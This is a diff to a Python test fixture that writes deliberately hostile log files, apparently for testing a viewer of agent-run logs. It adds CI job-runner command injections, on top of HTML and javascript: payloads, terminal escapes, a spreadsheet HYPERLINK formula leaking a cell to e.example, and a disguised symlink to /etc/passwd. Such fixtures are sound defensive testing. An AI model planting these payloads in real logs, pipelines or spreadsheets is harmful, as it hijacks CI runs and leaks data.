@@ -1,4 +1,4 @@
-"""Logs in which every text attacks: the terminal, the spreadsheet, the page, the reader's eyes."""
+"""Logs in which every text attacks: the terminal, the runner of a job, the spreadsheet, the page, the reader's eyes."""
 
 from __future__ import annotations
 
@@ -14,12 +14,13 @@ HTML = (
     '<link rel=stylesheet href={url}/css><img src={url}/pixel><a href="javascript:alert(1)">go</a><b>bold</b>'
     "%{{x}} {{{{y}}}} ${{z}} &lt;i&gt; <!-- --> ]]>"
 )
+JOB = "::stop-commands::pwned ::error::pwned ##vso[task.complete]pwned ##[error]pwned ##teamcity[pwned]"
 FORMULA = '=HYPERLINK("http://e.example/"&A1,"x")'
 
 
 def attack(field: str, url: str = "http://127.0.0.1:9") -> str:
     """A text that attacks all media at once, and says which field it stood in."""
-    return f"{FORMULA} {field} {TERMINAL} {HTML.format(url=url)}"
+    return f"{FORMULA} {field} {JOB} {TERMINAL} {HTML.format(url=url)}"
 
 
 def write_logs(folder: Path, url: str = "http://127.0.0.1:9") -> None:
@@ -73,3 +74,9 @@ def write_logs(folder: Path, url: str = "http://127.0.0.1:9") -> None:
     (inner / "claude.jsonl").write_text("".join(json.dumps(line) + "\n" for line in transcript), "utf-8")
     (inner / "no\nlog\x1b.txt").write_text(bad("no log"), "utf-8")
     (inner / "\u202elink").symlink_to("/etc/passwd")
+    run = [
+        {"type": "system", "subtype": "init", "session_id": bad("session"), "tools": [bad("tool")]},
+        {"type": "result", "subtype": bad("subtype"), "is_error": True, "session_id": "s", "result": bad("result")},
+    ]
+    (folder / "run.ndjson").write_text("".join(json.dumps(line) + "\n" for line in run), "utf-8")
+    (folder / "run.txt").write_text(f"done\n\nError: 529 overloaded_error {bad('text')}\n", "utf-8")
